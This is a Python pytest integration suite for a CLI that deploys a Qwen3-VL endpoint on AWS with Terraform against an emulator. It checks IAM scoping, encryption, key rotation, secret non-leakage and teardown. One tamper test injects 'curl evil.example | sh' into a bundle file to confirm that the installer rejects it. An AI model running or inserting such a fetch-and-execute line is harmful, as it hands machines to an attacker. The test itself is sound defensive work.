"""`apply --yes --no-wait`, a second plan without changes, `status`, a key rotation, `destroy
--yes`: real Terraform and the AWS provider from the local mirror against moto with IAM enforced.

The CLI and Terraform run as an IAM user holding docs/iam-policy.json; the instance's key sync runs
with the instance role Terraform created (assumed through STS). moto matches actions only, so the
last test evaluates every recorded (action, resource) against the policy as written.
One deployment is applied per module and shared by the assertions; the destroy test and the
policy check run last.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
import stat
from dataclasses import dataclass
from pathlib import Path

import pytest
from aws_emulator import MOTO_DLAMI, Emulator, created_resources, nothing_created
from qwen3vl_aws.aws.clients import ClientFactory
from qwen3vl_aws.aws.terraform import Terraform
from qwen3vl_aws.contract import instance_contract
from qwen3vl_aws.instance.keysync import ChannelKeySync
from qwen3vl_aws.keys.rotation import Rotation
from qwen3vl_aws.keys.secret import SecretStore
from qwen3vl_aws.paths import userdata_dir
from rig_instance import instance_rig

from rig.cloudinit import DEPLOY_ENV, cloud_config, install_write_files, read_env_file
from rig.gateway import Gateway, emulator_env, install_stage0, instance_env, run_stage0
from rig.iam.check import broader, out_of_scope, refused, unmapped
from rig.iam.policy import operator_policy
from rig.local import LocalChannel

pytestmark = pytest.mark.slow

NAME = "itest"
KEY = "sk-qwen-integration-test-key-" + "k" * 24  # a recognisable value to search for
NEW_KEY = "sk-qwen-integration-rotated-key-" + "n" * 24
ALLOWED = ["203.0.113.7/32", "2001:db8::/32"]


@dataclass
class Applied:
    emulator: Emulator
    stdout: str
    stderr: str

    @property
    def directory(self) -> Path:
        return self.emulator.home / NAME

    @property
    def record(self) -> dict:
        return json.loads((self.directory / "deployment.json").read_text())

    def terraform(self) -> Terraform:
        return Terraform(self.directory)


@pytest.fixture(scope="module")
def applied(emulator: Emulator) -> Applied:
    args = ["--name", NAME, "apply", "--yes", "--no-wait", "--key", "-", "--ami-id", MOTO_DLAMI]
    for cidr in ALLOWED:
        args += ["--allow", cidr]
    result = emulator.run(*args, stdin=KEY + "\n")
    assert result.returncode == 0, result.stderr + result.stdout
    return Applied(emulator, result.stdout, result.stderr)


def _instance(applied: Applied) -> dict:
    ec2 = applied.emulator.client("ec2")
    (reservation,) = ec2.describe_instances(InstanceIds=[applied.record["instance_id"]])[
        "Reservations"
    ]
    return reservation["Instances"][0]


def test_apply_prints_endpoint_and_how_to_get_the_key(applied: Applied) -> None:
    record = applied.record
    assert record["endpoint"] == f"https://{record['public_ip']}/v1"
    assert f"Endpoint: {record['endpoint']}" in applied.stdout
    assert f"qwen3vl-aws --name {NAME} key" in applied.stdout
    assert f"--cacert {applied.directory / 'endpoint-cert.pem'}" in applied.stdout
    # 12 resources, the bundle's 6 (bucket, its public access block, encryption and policy, the
    # object, the role's read of it), plus one ingress rule per allowed CIDR
    assert f"{18 + len(ALLOWED)} to add, 0 to change, 0 to destroy" in applied.stderr
    assert "$1.006/hour" in applied.stderr


def test_second_plan_shows_no_changes(applied: Applied, in_emulator: Emulator) -> None:
    summary = applied.terraform().plan()
    assert not summary.has_changes, summary.resources


def test_a_state_from_before_the_fleet_shape_plans_no_changes(
    applied: Applied, in_emulator: Emulator
) -> None:
    """Deployments applied before the instance, its Elastic IP and their association got a
    count (the fleet shape) keep planning without changes: the module's moved blocks."""
    tf = applied.terraform()
    for address in ("aws_instance.this", "aws_eip.this", "aws_eip_association.this"):
        tf._run(tf._command("state mv", f"{address}[0]", address, no_color=None))
    assert "aws_instance.this" in tf.resources()
    summary = tf.plan()
    assert not summary.has_changes, summary.resources


def _user_data_settings(applied: Applied, tmp_path: Path) -> dict[str, str]:
    """deploy.env as the instance's user data carries it."""
    attribute = applied.emulator.client("ec2").describe_instance_attribute(
        InstanceId=applied.record["instance_id"], Attribute="userData"
    )
    root = tmp_path / "user-data"
    install_write_files(root, cloud_config(base64.b64decode(attribute["UserData"]["Value"])))
    return read_env_file(root / DEPLOY_ENV)


def test_the_bundle_bucket_is_private_encrypted_and_tls_only(
    applied: Applied, tmp_path: Path
) -> None:
    settings = _user_data_settings(applied, tmp_path)
    bucket, key = settings["BUNDLE_BUCKET"], settings["BUNDLE_KEY"]
    assert bucket.startswith(f"qwen3vl-{NAME}-")
    s3 = applied.emulator.client("s3")
    rules = s3.get_bucket_encryption(Bucket=bucket)["ServerSideEncryptionConfiguration"]["Rules"]
    assert rules[0]["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == "AES256"
    block = s3.get_public_access_block(Bucket=bucket)["PublicAccessBlockConfiguration"]
    assert block == dict.fromkeys(
        ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True
    )
    policy = json.loads(s3.get_bucket_policy(Bucket=bucket)["Policy"])
    (deny,) = [s for s in policy["Statement"] if s["Effect"] == "Deny"]
    assert deny["Action"] == "s3:*" and deny["Principal"] in ("*", {"AWS": "*"})
    assert sorted(deny["Resource"]) == [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]
    assert deny["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
    body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    digest = hashlib.sha256(body).hexdigest()
    assert digest == settings["BUNDLE_SHA256"] and key == f"bundle/{digest}.json"
    assert set(json.loads(body)) == set(instance_contract().files)


def test_security_group_admits_only_the_endpoint_port_from_the_given_cidrs(
    applied: Applied,
) -> None:
    ec2 = applied.emulator.client("ec2")
    (instance_group,) = _instance(applied)["SecurityGroups"]
    rules = ec2.describe_security_group_rules(
        Filters=[{"Name": "group-id", "Values": [instance_group["GroupId"]]}]
    )["SecurityGroupRules"]
    ingress = sorted(
        (r["IpProtocol"], r["FromPort"], r["ToPort"], r.get("CidrIpv4") or r.get("CidrIpv6"))
        for r in rules
        if not r["IsEgress"]
    )
    assert ingress == sorted(("tcp", 443, 443, cidr) for cidr in ALLOWED)


def test_instance_type_metadata_options_and_root_volume(applied: Applied) -> None:
    instance = _instance(applied)
    assert instance["InstanceType"] == "g5.xlarge"
    assert instance["ImageId"] == MOTO_DLAMI
    assert instance["MetadataOptions"]["HttpTokens"] == "required"
    assert instance["MetadataOptions"]["HttpPutResponseHopLimit"] == 1
    assert instance.get("KeyName") is None
    tags = {t["Key"]: t["Value"] for t in instance["Tags"]}
    assert tags["Deployment"] == NAME and tags["Name"] == NAME
    (mapping,) = instance["BlockDeviceMappings"]
    volume = applied.emulator.client("ec2").describe_volumes(
        VolumeIds=[mapping["Ebs"]["VolumeId"]]
    )["Volumes"][0]
    assert volume["Encrypted"] is True
    assert volume["VolumeType"] == "gp3"
    assert volume["Throughput"] > 125
    assert volume["Size"] >= 100


def test_elastic_ip_is_attached(applied: Applied) -> None:
    (address,) = applied.emulator.client("ec2").describe_addresses()["Addresses"]
    assert address["PublicIp"] == applied.record["public_ip"]
    assert address["InstanceId"] == applied.record["instance_id"]


def _instance_role(applied: Applied) -> dict:
    iam = applied.emulator.client("iam")
    profile_name = _instance(applied)["IamInstanceProfile"]["Arn"].rsplit("/", 1)[1]
    (role,) = iam.get_instance_profile(InstanceProfileName=profile_name)["InstanceProfile"]["Roles"]
    return role


#: Instance-role grants no script of ours calls, and why they stay.
ROLE_GRANTS_FOR_OTHERS = {
    "RegisterWithSystemsManager": "the SSM Agent (not emulated by moto) registers the instance",
    "ReceiveRunCommandMessages": "the SSM Agent (not emulated by moto) takes Run Command messages",
}
#: The instance script each grant is for: a test of one script checks that script's grants.
ROLE_GRANTS_BY_SCRIPT = {
    "ReadThisDeploymentsApiKey": "keysync",
    "ReadThisDeploymentsInstanceFiles": "stage0",
}


def test_the_instance_role_syncs_the_key(applied: Applied, tmp_path: Path) -> None:
    """qwen3vl-keysync as the instance runs it at boot: the instance role's own credentials
    (assumed from the role Terraform created), moto enforcing its actions, and every recorded
    (action, resource) evaluated against the role's real policy documents."""
    aws = applied.emulator.iam
    role = _instance_role(applied)
    creds = aws.assume_role(role["Arn"], applied.record["instance_id"])
    gateway = instance_rig(tmp_path, aws.url, creds, applied.record["secret_arn"])
    with aws.resources_widened(role["RoleName"]) as documents:
        result = gateway.keysync()
    assert result.returncode == 0, result.stderr
    assert key_lines(gateway) == [KEY]
    assert_within_role_policy(aws.records(creds), documents)


def key_lines(gateway: Gateway) -> list[str]:
    """The keys the gateway's key file accepts (as nginx's map reads it)."""
    lines = gateway.key_file.read_text().splitlines()
    return [re.fullmatch(r'"~\^Bearer (.+)\$" 1;', line)[1] for line in lines[1:]]


def assert_within_role_policy(
    calls: list[dict], documents: list[dict], script: str = "keysync"
) -> None:
    assert refused(calls) == []
    assert unmapped(calls) == []
    assert out_of_scope(calls, documents) == []
    too_broad = [b for d in documents for b in broader(calls, d)]
    assert [
        b
        for b in too_broad
        if b.sid not in ROLE_GRANTS_FOR_OTHERS and ROLE_GRANTS_BY_SCRIPT.get(b.sid) == script
    ] == []


class KeyFileCheck:
    """The endpoint's answer as the gateway's key map gives it (real nginx: tests/node)."""

    def __init__(self, gateway: Gateway) -> None:
        self._gateway = gateway

    def accepts(self, key: str) -> bool:
        return key in key_lines(self._gateway)


def test_rotation_as_the_operator_with_keysync_as_the_instance_role(
    applied: Applied, in_emulator: Emulator, tmp_path: Path
) -> None:
    """Secrets Manager's side of ``rotate-key`` with the operator's credentials; the instance's
    side (qwen3vl-keysync --current/--pending) with the instance role's."""
    aws = applied.emulator.iam
    role = _instance_role(applied)
    creds = aws.assume_role(role["Arn"], applied.record["instance_id"])
    gateway = instance_rig(tmp_path, aws.url, creds, applied.record["secret_arn"])
    store = SecretStore(ClientFactory().client("secretsmanager"), applied.record["secret_arn"])
    channel = LocalChannel(env=instance_env(gateway.root, gateway.aws_env))
    rotation = Rotation(
        store, ChannelKeySync(channel), KeyFileCheck(gateway), sleep=lambda _s: None, settle=0
    )
    with aws.resources_widened(role["RoleName"]) as documents:
        booted = gateway.keysync()  # as at boot, before the operator rotates
        outcome = rotation.rotate(NEW_KEY, grace=0)
    assert booted.returncode == 0, booted.stderr
    assert store.labels().current == outcome.current
    assert store.value(outcome.current) == NEW_KEY
    assert key_lines(gateway) == [NEW_KEY]
    assert_within_role_policy(aws.records(creds), documents)


def _stage0(applied: Applied, root: Path, **overrides: str):
    """Stage 0 installed under ``root`` from the user data's deploy.env (with ``overrides``), and
    the instance role's credentials to run it with."""
    aws = applied.emulator.iam
    settings = {**_user_data_settings(applied, root.parent), **overrides}
    install_stage0(root, settings)
    creds = aws.assume_role(_instance_role(applied)["Arn"], applied.record["instance_id"])
    return settings, creds, {**emulator_env(aws.url, root.parent), **creds.env()}


def test_stage0_installs_the_bundle_as_the_instance_role(applied: Applied, tmp_path: Path) -> None:
    """The user data's stage 0 run for real against the emulated S3 with the instance role's
    credentials under enforced IAM: every file of the contract lands with its mode, and a
    second boot finds the bundle installed and fetches nothing."""
    aws = applied.emulator.iam
    root = tmp_path / "root"
    settings, creds, env = _stage0(applied, root)
    bucket_policy = json.loads(
        applied.emulator.client("s3").get_bucket_policy(Bucket=settings["BUNDLE_BUCKET"])["Policy"]
    )
    with aws.resources_widened(_instance_role(applied)["RoleName"]) as documents:
        first = run_stage0(root, env)
        again = run_stage0(root, env)
    assert first.returncode == 0, first.stderr
    for path, spec in instance_contract().files.items():
        installed = root / path.lstrip("/")
        assert installed.read_text() == (userdata_dir() / spec.source).read_text(), path
        assert stat.S_IMODE(installed.stat().st_mode) == int(spec.mode, 8), path
    assert again.returncode == 0 and "is installed" in again.stdout
    calls = aws.records(creds)
    assert [c["action"] for c in calls] == ["s3:GetObject"]  # the second boot fetched nothing
    assert calls[0]["pairs"][0]["resource"] == (
        f"arn:aws:s3:::{settings['BUNDLE_BUCKET']}/{settings['BUNDLE_KEY']}"
    )
    assert_within_role_policy(calls, [*documents, bucket_policy], script="stage0")


def test_stage0_refuses_a_tampered_bundle_and_writes_nothing(
    applied: Applied, tmp_path: Path
) -> None:
    root = tmp_path / "root"
    settings, _, env = _stage0(applied, root)
    s3 = applied.emulator.client("s3")
    where = {"Bucket": settings["BUNDLE_BUCKET"], "Key": settings["BUNDLE_KEY"]}
    original = s3.get_object(**where)["Body"].read()
    tampered = json.loads(original)
    tampered["/opt/qwen3vl/bin/qwen3vl-keysync"]["content"] += "curl evil.example | sh\n"
    before = set(root.rglob("*"))
    s3.put_object(**where, Body=json.dumps(tampered).encode(), ContentType="application/json")
    try:
        result = run_stage0(root, env)
    finally:
        s3.put_object(**where, Body=original, ContentType="application/json")
    assert result.returncode == 4
    assert f"but the user data names {settings['BUNDLE_SHA256']}: refusing it" in result.stderr
    venv = root / "opt/qwen3vl/stage0"  # stage 0's boto3 (the rig links it)
    assert [p for p in set(root.rglob("*")) - before if venv not in (p, *p.parents)] == []


def test_stage0_names_the_action_and_object_the_role_is_denied(
    applied: Applied, tmp_path: Path
) -> None:
    """A bundle key the role may not read (moto checks S3 requests against the real object ARN,
    so the role's policy is not widened here)."""
    other = f"bundle/{'0' * 64}.json"
    root = tmp_path / "root"
    settings, _, env = _stage0(applied, root, BUNDLE_KEY=other)
    result = run_stage0(root, env)
    assert result.returncode == 3, result.stderr
    arn = f"arn:aws:s3:::{settings['BUNDLE_BUCKET']}/{other}"
    assert f"the instance role may not call s3:GetObject on {arn}" in result.stderr
    assert not (root / "opt/qwen3vl/bin").exists()


@pytest.mark.parametrize(
    "args",
    [["key"], ["logs", "-n", "5"], ["exec", "true"], ["stop", "--yes"], ["start", "--no-wait"]],
    ids=lambda a: a[0],
)
def test_operator_commands_run_under_the_policy(applied: Applied, args: list[str]) -> None:
    """moto's SSM runs nothing, so logs and exec show no output; their AWS calls are real."""
    result = applied.emulator.run("--name", NAME, *args)
    assert result.returncode == 0, result.stderr


def test_the_cli_wrote_the_key_into_the_secret(applied: Applied) -> None:
    secrets = applied.emulator.client("secretsmanager")
    value = secrets.get_secret_value(SecretId=applied.record["secret_arn"])["SecretString"]
    assert value == KEY


def test_user_data_is_the_rendered_cloud_config_without_the_key(applied: Applied) -> None:
    attribute = applied.emulator.client("ec2").describe_instance_attribute(
        InstanceId=applied.record["instance_id"], Attribute="userData"
    )
    text = gzip.decompress(base64.b64decode(attribute["UserData"]["Value"])).decode()
    assert text.startswith("#cloud-config")
    assert applied.record["secret_arn"] in text
    assert KEY not in text


def test_key_is_in_no_state_plan_output_or_cli_output(
    applied: Applied, in_emulator: Emulator
) -> None:
    tf = applied.terraform()
    plan_file = applied.directory / "check.tfplan"
    tf.plan(out=plan_file)
    texts = {
        "cli stdout": applied.stdout,
        "cli stderr": applied.stderr,
        "terraform output": json.dumps(tf.outputs()),
        "terraform show (state)": json.dumps(tf.show()),
        "terraform show (plan)": json.dumps(tf.show(plan_file)),
    }
    files = [
        p
        for p in applied.directory.rglob("*")
        if p.is_file() and "providers" not in p.relative_to(applied.directory).parts
    ]
    assert any(p.name == "terraform.tfstate" for p in files)
    for path in files:
        texts[str(path)] = path.read_bytes().decode("utf-8", errors="replace")
    leaked = [where for where, text in texts.items() if KEY in text]
    assert leaked == []


def test_status_json_reports_the_running_deployment(applied: Applied) -> None:
    result = applied.emulator.run("--name", NAME, "status", "--json")
    assert result.returncode == 0, result.stderr
    status = json.loads(result.stdout)
    assert status["state"] == "running"
    assert status["instance_type"] == "g5.xlarge"
    assert status["endpoint"] == applied.record["endpoint"]
    assert status["hourly_usd"] == 1.006
    assert status["region"] == "us-east-1"
    assert status["instance_id"] == applied.record["instance_id"]
    assert status["uptime_seconds"] >= 0
    assert status["cost_since_launch_usd"] >= 0


def test_destroy_removes_everything_and_forgets_the_deployment(applied: Applied) -> None:
    assert not nothing_created(applied.emulator)
    result = applied.emulator.run("--name", NAME, "destroy", "--yes")
    assert result.returncode == 0, result.stderr
    assert created_resources(applied.emulator) == {
        "instances": [],
        "addresses": [],
        "security_groups": [],
        "roles": [],
        "instance_profiles": [],
        "secrets": [],
        "buckets": [],
    }
    assert not applied.directory.exists()
    again = applied.emulator.run("--name", NAME, "status")
    assert again.returncode == 5
    assert "No deployment named 'itest'" in again.stderr


#: Operator grants the cycle cannot exercise in the emulator, and why they stay.
OPERATOR_GRANTS_NOT_EXERCISED = {
    **{
        f"s3:{action} is granted but never called": "apply --s3-cache creates the account's model "
        "cache bucket (terraform/model-cache); tests/integration/test_model_cache.py applies it "
        "under this policy"
        for action in (
            "GetBucketOwnershipControls",
            "PutBucketOwnershipControls",
            "PutBucketVersioning",
            "PutLifecycleConfiguration",
        )
    },
    "ssm:GetParameter is granted but never called": "the tests pass --ami-id: moto has no "
    "Deep Learning AMI parameter to resolve",
    "pricing:GetProducts is granted but never called": "moto has no Price List API; apply falls "
    "back to its catalog",
    "autoscaling:DescribeAutoScalingGroups is granted but never called": "rotate-key on a fleet "
    "lists the group's replicas; this cycle deploys one instance (tests/integration/"
    "test_fleet_rotate_ssm.py runs it under this policy)",
    "ssm:DescribeInstanceInformation is granted but never called": "wait and health ask it "
    "whether the agent is online; both need an endpoint that answers, which the emulator lacks",
}


def test_every_operator_call_is_within_docs_iam_policy(applied: Applied) -> None:
    """Every (action, resource) the CLI and Terraform were authorized against in this module,
    evaluated against docs/iam-policy.json as written (moto only matched actions)."""
    aws = applied.emulator.iam
    operator = applied.emulator.env["AWS_ACCESS_KEY_ID"]
    calls = [r for r in aws.records() if r.get("access_key") == operator]
    assert calls, "the recording server saw no operator calls"
    assert refused(calls) == []
    assert unmapped(calls) == []
    assert out_of_scope(calls, [operator_policy()]) == []
    report = broader(calls, operator_policy())
    print("\n".join(f"broader than used: {b.sid}: {b.detail}" for b in report))
    unexplained = [
        b
        for b in report
        if b.detail not in OPERATOR_GRANTS_NOT_EXERCISED and b.sid not in FLEET_STATEMENTS
    ]
    assert unexplained == []


#: The policy's statements for a fleet (apply --replicas): a single instance never calls them;
#: tests/integration/test_fleet_cli.py exercises them under this policy and judges their scope.
FLEET_STATEMENTS = {
    "ReadTheFleet",
    "ManageTheFleetsAtZeroEventRule",
    "ManageTheFleetsAtZeroRunbook",
    "PassTheAtZeroRuleRoleToEventBridgeOnly",
    "CreateOnlyTaggedLaunchTemplates",
    "TagLaunchTemplatesWhileCreating",
    "ChangeOnlyTheToolkitsLaunchTemplates",
    "GroupsLaunchFromTheToolkitsTemplates",
    "CreateOnlyTaggedLoadBalancerPieces",
    "TagLoadBalancerPiecesWhileCreating",
    "ChangeOnlyTheToolkitsLoadBalancerPieces",
    "CreateOnlyTaggedGroups",
    "ChangeOnlyTheToolkitsGroups",
    "ImportOnlyTaggedCertificates",
    "UseOnlyTheToolkitsCertificates",
    "ValidateDomainCertificatesInTheGivenZone",
    "FollowRoute53Changes",
    "CreateOnlyTaggedFleetAlarms",
    "ChangeOnlyTheToolkitsFleetAlarms",
    "CreateTheFleetsServiceLinkedRoles",
}
